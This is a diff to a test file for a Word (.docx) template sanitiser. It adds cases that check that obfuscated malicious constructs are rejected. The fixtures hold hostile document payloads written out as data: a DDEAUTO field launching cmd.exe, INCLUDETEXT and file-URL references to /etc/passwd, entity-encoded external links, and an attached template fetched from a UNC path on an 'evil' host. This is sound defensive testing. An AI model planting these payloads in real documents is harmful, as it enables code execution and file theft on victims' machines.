@@ -125,6 +125,44 @@ describe('docx templates', () => {
     expect(problems.map((problem) => problem.code)).toEqual([code]);
   });
 
+  it.each([
+    [
+      'outside_field',
+      { body: '<w:p><w:r><w:instrText><![CDATA[ INCLUDEPICTURE "http://x/y" ]]></w:instrText></w:r></w:p>' },
+    ],
+    ['outside_field', { body: '<w:p><w:r><w:instrText> INCLUDE<!-- -->TEXT "/etc/passwd" </w:instrText></w:r></w:p>' }],
+    ['outside_field', { body: '<w:p><w:r><w:instrText> INCLUDE&#80;ICTURE "http://x/y" </w:instrText></w:r></w:p>' }],
+    [
+      'outside_field',
+      {
+        body: '<v:p xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><v:r><v:instrText> DDEAUTO c:\\\\cmd.exe </v:instrText></v:r></v:p>',
+      },
+    ],
+    [
+      'outside_reference',
+      {
+        body: p('x'),
+        rels: '<Relationship Id="r9" Type="http://x/relationships/image" Target="http://x/y.png" TargetMode="Exter&#110;al"/>',
+      },
+    ],
+    [
+      'outside_reference',
+      {
+        body: p('x'),
+        rels: '<q:Relationship xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships" Id="r9" Type="http://x/relationships/image" Target="file:///etc/passwd" TargetMode="External"/>',
+      },
+    ],
+    [
+      'bad_xml',
+      { body: p('x'), extra: { 'word/footer9.xml': Buffer.from('<?xml version="1.0" encoding="UTF-7"?><w:ftr/>') } },
+    ],
+    ['bad_xml', { body: p('x'), extra: { 'word/footer9.xml': Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93]) } }],
+  ])('is not deceived by another way to write it: %s', async (code, parts) => {
+    const check = await checkDocx(await makeDocx(parts as Parameters<typeof makeDocx>[0]));
+    expect(check.problems.map((problem) => problem.code)).toEqual([code]);
+    expect(check.docx).toBeNull();
+  });
+
   it('takes out the address of the template a document was made from, and keeps links', async () => {
     const rels =
       '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\\\evil\\t.dotm" TargetMode="External"/>' +
